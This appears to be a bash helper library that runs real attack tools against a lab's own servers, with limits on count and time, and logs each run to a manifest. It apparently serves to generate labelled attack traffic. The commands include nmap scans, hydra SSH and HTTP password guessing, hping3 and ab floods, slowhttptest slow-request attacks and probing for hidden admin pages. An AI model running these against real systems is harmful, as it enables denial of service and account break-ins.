# Real attack tools against the laboratory's own servers, each bounded in count and time. Sourced.
# shellcheck shell=bash

# attack FILE CLASS ATTACKER VICTIM COMMAND...: runs it and adds a line with its times to the manifest.
attack() {
    local file=$1 class=$2 from=$3 victim=$4 start end; shift 4
    start=$(date +%s.%3N)
    "$@" >>"$LAB_DIR/attacks.log" 2>&1 || true
    end=$(date +%s.%3N)
    printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$file" "$class" "$from" "$victim" "$start" "$end" "$1" >>"$LAB_DIR/manifest"
    say "  $class from $from: $(awk -v a="$start" -v b="$end" 'BEGIN { printf "%.1f s", b - a }')"
}

manifest_header() { printf 'file\tclass\tattacker\tvictim\tstart\tend\ttool\n'; }

nmap_syn() { ns "$1" timeout 60 nmap -n -Pn -sS -T4 --max-rate 150 --top-ports 300 "$2"; }
nmap_connect() { ns "$1" timeout 60 nmap -n -Pn -sT -T4 --max-rate 150 --top-ports 300 "$2"; }
nmap_sweep() { ns "$1" timeout 60 nmap -n -Pn -sS -T4 --max-retries 1 -p "$3" "$2"; }

# hydra_ssh HOST TARGET COUNT [SECONDS]: password guesses with hydra, six at a time.
hydra_ssh() {
    awk -v n="$3" 'BEGIN { split("summer winter dragon shadow master monkey silver purple hunter orange", w, " "); for (i = 0; i < n; i++) print w[i % 10 + 1] 1980 + i }' >"$LAB_DIR/passwords"
    (cd "$LAB_DIR" && ns "$1" timeout "${4:-45}" hydra -I -t 6 -w 4 -l admin -P "$LAB_DIR/passwords" "ssh://$2")
}

# hping_syn HOST TARGET PORT COUNT: about a thousand a second.
hping_syn() { ns "$1" timeout 30 hping3 -q -S -p "$3" -c "$4" -i u1000 "$2"; }
hping_udp() { ns "$1" timeout 30 hping3 -q --udp -p "$3" -d 40 -c "$4" -i u1000 "$2"; }
hping_icmp() { ns "$1" timeout 30 hping3 -q --icmp -d 40 -c "$3" -i u1000 "$2"; }

nmap_stealth() { ns "$1" timeout 40 nmap -n -Pn -sF -T4 --max-rate 100 --top-ports 150 "$2"; ns "$1" timeout 40 nmap -n -Pn -sX -T4 --max-rate 100 --top-ports 100 "$2"; }
nmap_udp() { ns "$1" timeout 60 nmap -n -Pn -sU -T4 --max-retries 1 --top-ports 60 "$2"; }

# hydra_http HOST TARGET COUNT: guesses against a page that asks for a password.
hydra_http() {
    seq -f 'secret%g' "$3" >"$LAB_DIR/http-passwords"
    (cd "$LAB_DIR" && ns "$1" timeout 45 hydra -I -t 4 -l admin -P "$LAB_DIR/http-passwords" "http-get://$2/login")
}

# ab_flood HOST URL COUNT: complete requests, as fast as forty connections carry them.
ab_flood() { ns "$1" timeout 30 ab -q -r -s 5 -n "$3" -c 40 "$2"; }

# slow_http HOST URL -H|-B: connections that never finish their header or body.
slow_http() { (cd "$LAB_DIR" && ns "$1" timeout 60 slowhttptest "$3" -c 150 -r 20 -i 5 -x 8 -l 30 -p 3 -u "$2"); }

# path_guess HOST URL COUNT: looks for forgotten pages, one after the other over one connection.
path_guess() {
    local i urls=()
    for i in $(seq "$3"); do urls+=(-o /dev/null "$2/$(printf 'admin backup old test config login shell upload db private' | cut -d' ' -f$((i % 10 + 1)))$i.php"); done
    ns "$1" curl -s -m 60 -A 'Mozilla/5.0' "${urls[@]}"
}
